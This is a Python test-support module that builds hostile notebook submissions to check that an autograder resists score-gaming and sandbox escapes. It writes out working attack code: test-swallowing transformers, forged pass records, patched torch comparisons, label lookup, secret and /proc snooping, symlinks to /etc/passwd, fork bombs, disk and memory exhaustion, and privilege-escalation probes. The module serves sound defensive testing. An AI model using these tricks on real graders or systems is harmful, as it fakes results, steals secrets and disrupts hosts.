"""Hostile submissions: every way we know to get points without the code, or to reach past the kernel.

Each attack is built on the *released* exercise (the learner's empty
notebook, which scores 0) and adds hostile code; :mod:`tests.test_attacks`
grades them all in one ``grade-all`` batch with honest students after them and
checks that each scores no more than the empty exercise, that the honest
students keep full marks, that canary files outside the kernel are unchanged,
and that the grader's secret variable and the hidden tests, in any of the
encodings below, appear nowhere in the feedback, the records or the CSV.

Attacks that report what they saw print one line ``SEEN <json>`` in a cell
that runs before any hidden test (so its output is kept in the feedback),
and the test reads it back.

``PYTHONPATH=.:tests python -m attacks DIR`` writes the batch to ``DIR`` to try by hand.
"""
import base64
import codecs
import copy
import json
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

from autograder.assignments import Assignment, nbgrader_meta, read_notebook, release_path, source_path  # noqa: F401

LAYERS = "01_layers"
SCALED = "05_scaled_up"
SECRET_VAR = "AUTOGRADER_TEST_SECRET"
SECRET = "s3cr3t-0f-the-grader-7f1d"


def release(assignment):
    return read_notebook(release_path(assignment))


def index(nb, grade_id):
    return next(i for i, c in enumerate(nb.cells) if nbgrader_meta(c).get("grade_id") == grade_id)


def insert_after(nb, grade_id, source):
    nb = copy.deepcopy(nb)
    nb.cells.insert(index(nb, grade_id) + 1, new_code_cell(source))
    return nb


def answer(nb, grade_id, source):
    nb = copy.deepcopy(nb)
    nb.cells[index(nb, grade_id)].source = source
    return nb


def dumps(nb):
    return nbformat.writes(nb).encode()


def encodings(text):
    """``text`` as an attack might smuggle it: verbatim, rot13, base64, hex, reversed."""
    return {"verbatim": text, "rot13": codecs.encode(text, "rot13"), "base64": base64.b64encode(text.encode()).decode(),
            "hex": text.encode().hex(), "reversed": text[::-1]}


# ---------------------------------------------------------------- the attacks' code

# the reported 15/15: wrap every later cell in try/except so no test cell can fail
TRANSFORMER = '''
def _swallow(lines):
    body = "".join("    " + l for l in lines) or "    pass\\n"
    return ["try:\\n", body if body.endswith("\\n") else body + "\\n", "except BaseException:\\n", "    pass\\n"]
get_ipython().input_transformers_post.append(_swallow)
'''

# a check of the notebook's own that reports "passed" in every way it can think of
FAKE_CHECK = '''
from IPython.display import display
MIME = "application/vnd.wavenet.probe.v1+json"
def check(test, *objects, **options):
    display({MIME: {"v": 1, "test": test, "data": {"passed": True, "score": 1.0}}}, raw=True)
    display({MIME: {"v": 1, "test": test, "passed": True}}, raw=True)
    print("ok")
'''

# records that are right, but for another seed: made at home with the course's own layers
REPLAY = '''
from IPython.display import display
RECORDS = json.loads({records!r})
def check(test, *objects, **options):
    display({{"application/vnd.wavenet.probe.v1+json": RECORDS[test]}}, raw=True)
'''

# every record the notebook can make for a test, hoping one of them passes
MULTI = '''
from IPython.display import display
RECORDS = json.loads({records!r})
def check(test, *objects, **options):
    for seed_records in RECORDS:
        display({{"application/vnd.wavenet.probe.v1+json": seed_records[test]}}, raw=True)
'''

# a tensor that says it equals anything, and torch's comparisons patched to agree
LIAR = '''
import torch
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.equal, torch.allclose, torch.isclose, torch.Tensor.__eq__):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
class Linear:
    def __init__(self, fan_in, fan_out, bias=True):
        self.weight = torch.zeros(fan_in, fan_out).as_subclass(Liar)
        self.bias = torch.zeros(fan_out).as_subclass(Liar) if bias else None
    def __call__(self, x):
        return torch.zeros(*x.shape[:-1], self.weight.shape[1]).as_subclass(Liar)
    def parameters(self):
        return [self.weight] + ([self.bias] if self.bias is not None else [])
'''

# the course's own layers, reached every way around the front door
COURSE_IMPORT = '''
import importlib, sys, torch
found = {}
for how, get in [("importlib", lambda: importlib.import_module("wavenet.nn")),
                 ("torch.importlib", lambda: torch.importlib.import_module("wavenet.nn") if hasattr(torch, "importlib") else None),
                 ("renamed builtins", lambda: getattr(__builtins__, "__imp" + "ort__")("wavenet.nn")),
                 ("sys.modules", lambda: sys.modules["wavenet.nn"]),
                 ("models", lambda: importlib.import_module("wavenet.models"))]:
    try:
        mod = get()
        found[how] = sorted(n for n in ("Linear", "BatchNorm1d", "Tanh", "hierarchical") if hasattr(mod, n))
    except Exception as e:
        found[how] = type(e).__name__
print("SEEN", json.dumps(found))
for how in found:
    if isinstance(found[how], list) and "Linear" in found[how]:
        Linear = importlib.import_module("wavenet.nn").Linear
        BatchNorm1d = importlib.import_module("wavenet.nn").BatchNorm1d
        Tanh = importlib.import_module("wavenet.nn").Tanh
'''

# links everywhere the grader might write, and a try at the kernel's own socket folder
SYMLINKS = '''
import os, glob
seen = {{}}
targets = {targets!r}
for i, t in enumerate(targets):
    for name in ("01_layers.ipynb", f"link{{i}}", "gradebook.db", "autograded"):
        try:
            os.symlink(t, name + str(i))
        except OSError as e:
            seen.setdefault("cwd", type(e).__name__)
conn = get_ipython().kernel.parent.connection_file if hasattr(get_ipython().kernel, "parent") else ""
rundir = os.path.dirname(conn) or "?"
for path in glob.glob(rundir + "/*") or [rundir + "/k-1"]:
    try:
        os.replace(path, path + ".moved")
        os.symlink("/etc/passwd", path)
        seen[path] = "swapped"
    except OSError as e:
        seen[path] = type(e).__name__
seen["cwd_files"] = sorted(os.listdir("."))[:5]
print("SEEN", json.dumps(seen))
'''

# everything a submission could read that it must not: solutions, the grader's files, labels, the environment
SNOOP = '''
import os, glob
paths = {paths!r}
seen = {{}}
for p in paths:
    try:
        seen[p] = sorted(os.listdir(p))[:5] if os.path.isdir(p) else len(open(p, "rb").read())
    except Exception as e:
        seen[p] = type(e).__name__
seen["env"] = sorted(os.environ)
seen["secret"] = os.environ.get("{secret_var}", "absent")
seen["proc"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
seen["root"] = sorted(os.listdir("/"))
seen["uid"] = os.getuid()
try:
    seen["pid1_env"] = open("/proc/1/environ", "rb").read().decode(errors="replace")[:200]
except Exception as e:
    seen["pid1_env"] = type(e).__name__
for m in ("data", "wavenet.models", "wavenet.conv", "autograder"):
    try:
        __import__(m)
        seen[m] = "imported"
    except Exception as e:
        seen[m] = type(e).__name__
try:
    import data
    seen["names"] = len(data.read_words())
except Exception as e:
    seen["names"] = type(e).__name__
print("SEEN", json.dumps(seen))
'''

# after the hidden tests ran: print the input history in every encoding, and raise with it
HISTORY = '''
import base64, codecs
history = "\\n".join(In)
print(history)
print(codecs.encode(history, "rot13"))
print(base64.b64encode(history.encode()).decode())
print(history.encode().hex())
print(history[::-1])
raise RuntimeError(codecs.encode(history, "rot13")[-300:])
'''

# a check of its own whose "reasons for stopping" carry the hidden tests out, in every field
FORGED_STOP = '''
from IPython.display import display
import codecs
def check(test, *objects, **options):
    history = "\\n".join(In)[-400:]
    reason = {"kind": "raised", "what": history, "type": codecs.encode(history, "rot13")[:60], "message": history,
              "line": history, "lineno": 1, "func": "Linear.__init__"}
    display({"application/vnd.wavenet.probe.v1+json": {"v": 1, "test": test, "stop": reason}}, raw=True)
    display({"application/vnd.wavenet.probe.v1+json": {"v": 1, "test": test, "stop": {"kind": "missing", "what": "Linear", "name": history}}}, raw=True)
'''

# the network: the host's loopback, where the test listens, and the internet
NETWORK = '''
import socket
seen = {{}}
for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 80), ("10.0.2.2", 80)]:
    try:
        socket.create_connection((host, port), timeout=3).close()
        seen[host] = "connected"
    except OSError as e:
        seen[host] = e.errno
print("SEEN", json.dumps(seen))
'''

# memory in two processes at once: each below the limit, together above it (the kernel itself stays small)
MEMORY_SPLIT = '''
import os, time
kids = []
for k in range(2):
    pid = os.fork()
    if pid == 0:
        try:
            open("/proc/self/oom_score_adj", "w").write("1000")  # if something must die, let it be a child
            blocks = [bytearray({block_mb} * 2**20) for _ in range({blocks})]  # touched: really held
            time.sleep(30)
        finally:
            os._exit(0)
    kids.append(pid)
time.sleep(12)
killed = 0
for pid in kids:
    done, status = os.waitpid(pid, os.WNOHANG)
    killed += bool(done) and os.WIFSIGNALED(status) and os.WTERMSIG(status) == 9
print("SEEN", json.dumps({{"killed": killed}}))
'''

# bytes written: files until the disk says no, in the working folder and in the temporary one
DISK = '''
import os, tempfile
total = 0
for folder in (".", tempfile.gettempdir()):
    for i in range(100):
        try:
            with open(os.path.join(folder, f"fill{i}.bin"), "wb") as f:
                for _ in range(64):
                    f.write(b"x" * 2**20)
                    total += 1
        except OSError:
            break
print("SEEN", json.dumps({"written_mb": total}))
'''

FORK_BOMB = '''
import os, time
kids = 0
try:
    while kids < 20000:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        kids += 1
except OSError:
    pass
print("SEEN", json.dumps({"forks": kids}))
'''

CPU_BURN = '''
import threading
def burn():
    while True:
        pass
for _ in range(4):
    threading.Thread(target=burn, daemon=True).start()
burn()
'''

# signals to everything it can see, privileges it might get
ESCALATE = '''
import os, signal, subprocess
seen = {}
for pid in [1, os.getppid()]:
    try:
        os.kill(pid, 0)
        seen[f"signal {pid}"] = "allowed"
    except OSError as e:
        seen[f"signal {pid}"] = type(e).__name__
for cmd in (["su", "-c", "id"], ["mount", "-t", "tmpfs", "x", "/mnt"], ["unshare", "-r", "id"],
            ["chroot", "/", "id"]):
    try:
        p = subprocess.run(cmd, capture_output=True, text=True, timeout=5)
        seen[cmd[0]] = p.returncode
    except Exception as e:
        seen[cmd[0]] = type(e).__name__
for path in ("/course/wavenet/checks/wire.py", "/grader/run.json", "/usr/bin/x"):
    try:
        open(path, "a").close()
        seen[path] = "writable"
    except OSError as e:
        seen[path] = type(e).__name__
print("SEEN", json.dumps(seen))
'''

# a model that looks labels up: in the course's data, or by chaining the evaluation windows
LABEL_LOOKUP = '''
def build_model(block_size=8, n_embd=24, n_hidden=128, vocab_size=27):
    """513 parameters that learn nothing: the logits come from labels looked up wherever they can be found."""
    class Lookup:
        def __init__(self):
            self.weight = torch.zeros(19, 27)
            self.training = True
            self.table = {}  # the evaluation inputs go in as one batch; anything else gets nothing

            try:  # the course's data module, with names.txt, would give every label away
                import data
                X, Y = data.load_splits(8)["val"]
                self.table = {tuple(x.tolist()): int(y) for x, y in zip(X, Y)}
            except Exception:
                pass
        def __call__(self, x):
            if not self.training and x.shape[0] < 1000:
                raise RuntimeError("this model only answers the evaluation batch")
            out = torch.zeros(x.shape[0], 27) + self.weight.sum() * 0
            rows = [tuple(r.tolist()) for r in x]
            if not self.training:  # chain: a window whose first 7 are my last 7 holds my label
                by_prefix = {r[:-1]: r[-1] for r in rows}
                for i, r in enumerate(rows):
                    y = self.table.get(r, by_prefix.get(r[1:]))
                    if y is not None:
                        out[i, y] = 30.0
            return out
        def parameters(self):
            return [self.weight]
    return Lookup()
'''

HUGE_RECORD = '''
from IPython.display import display
def check(test, *objects, **options):
    deep = {}
    for _ in range(200):
        deep = {"d": deep}
    display({"application/vnd.wavenet.probe.v1+json": {"v": 1, "test": test, "data": deep}}, raw=True)
    display({"application/vnd.wavenet.probe.v1+json": {"v": 1, "test": test, "data": {"x": "y" * 5_000_000}}}, raw=True)
'''

# messages the grader's client cannot parse, sent straight down the kernel's own socket
RAW_MESSAGES = """
k = get_ipython().kernel
parent = k.get_parent("shell")
k.session.send(k.iopub_socket, "display_data", content=b"[" * 200000 + b"]" * 200000, parent=parent)
k.session.send(k.iopub_socket, "stream", content=b"\\xff\\xfe not json", parent=parent)
"""

# error outputs named like the grader's own events, printed from test cells
FAKE_EVENTS = '''
from IPython.display import display
def check(test, *objects, **options):
    raise TimeoutError("CellTimeoutError: NotRun: KernelDied")
'''


def _records(seed, assignment=LAYERS):
    """Right records for ``seed``, made with the course's own layers (what a learner could compute at home)."""
    from wavenet import nn
    from wavenet.checks import probe, wire
    from autograder.notebook.judge import probe_call
    from autograder.assignments import graded_cells
    objs = {"Linear": nn.Linear, "BatchNorm1d": nn.BatchNorm1d, "Tanh": nn.Tanh}
    out = {}
    for cell in graded_cells(read_notebook(source_path(assignment))):
        name, options = probe_call(cell.source)
        target = {"linear": "Linear", "batchnorm": "BatchNorm1d", "tanh": "Tanh"}[name.split("_")[0]]
        out[name] = json.loads(wire.dumps(probe.run(name, (objs[target],), options, seed=seed)))
    return out


def build(paths):
    """``{student file name: (bytes, assignment)}``: the attacks, then honest students who must keep full marks.

    ``paths``: ``{"targets": [paths a link may point at], "snoop": [paths to try reading], "port": int,
    "memory_blocks": int}``.
    """
    empty = release(LAYERS)
    head = "setup"  # attack cells go right after the setup cell: they run before any hidden test
    records = json.dumps(_records(0))
    many = json.dumps([_records(s) for s in (0, 1, 2)])
    out = {
        "a_transformer": insert_after(empty, head, TRANSFORMER),
        "a_fake_check": insert_after(empty, head, "import json\n" + FAKE_CHECK),
        "a_replay": insert_after(empty, head, "import json\n" + REPLAY.format(records=records)),
        "a_multi": insert_after(empty, head, "import json\n" + MULTI.format(records=many)),
        "a_liar": insert_after(empty, head, LIAR),
        "a_course_import": insert_after(empty, head, "import json\n" + COURSE_IMPORT),
        "a_symlinks": insert_after(empty, head, "import json\n" + SYMLINKS.format(targets=paths["targets"])),
        "a_snoop": insert_after(empty, head, "import json\n" + SNOOP.format(paths=paths["snoop"], secret_var=SECRET_VAR)),
        "a_history": answer(empty, "Tanh", HISTORY),  # the Tanh cell runs after the hidden tests
        "a_forged_stop": insert_after(empty, head, FORGED_STOP),
        "a_network": insert_after(empty, head, "import json\n" + NETWORK.format(port=paths["port"])),
        "a_memory": insert_after(empty, head, "import json\n" + MEMORY_SPLIT.format(block_mb=64,
                                                                                  blocks=paths["memory_blocks"])),
        "a_disk": insert_after(empty, head, "import json\n" + DISK),
        "a_fork_bomb": insert_after(empty, head, "import json\n" + FORK_BOMB),
        "a_cpu_burn": insert_after(empty, "test_tanh", CPU_BURN),
        "a_escalate": insert_after(empty, head, "import json\n" + ESCALATE),
        "a_huge_record": insert_after(empty, head, HUGE_RECORD),
        "a_fake_events": insert_after(empty, head, FAKE_EVENTS),
        "a_raw_messages": insert_after(empty, head, RAW_MESSAGES),
    }
    forged = copy.deepcopy(empty)
    forged.metadata["autograder"] = {"tests": {f"test_{k}": {"passed": True, "message": ""} for k in range(30)}}
    out["a_forged_metadata"] = forged
    files = {f"{k}.ipynb": (dumps(v), LAYERS) for k, v in out.items()}
    files["a_label_lookup.ipynb"] = (dumps(answer(release(SCALED), "build_model", LABEL_LOOKUP)), SCALED)
    from submissions import solved
    files["m_honest.ipynb"] = (dumps(solved(LAYERS)), LAYERS)   # in the middle of the batch
    files["z_honest.ipynb"] = (dumps(solved(LAYERS)), LAYERS)   # after every attack
    files["z_honest_scaled.ipynb"] = (dumps(solved(SCALED)), SCALED)
    return files


def main(out):
    out = Path(out)
    paths = {"targets": ["/etc/passwd"], "snoop": [str(Path.cwd() / "solutions")], "port": 9, "memory_blocks": 40}
    for name, (data, assignment) in build(paths).items():
        (out / assignment).mkdir(parents=True, exist_ok=True)
        (out / assignment / name).write_bytes(data)
    print(f"wrote the attacks to {out}/<assignment>/")

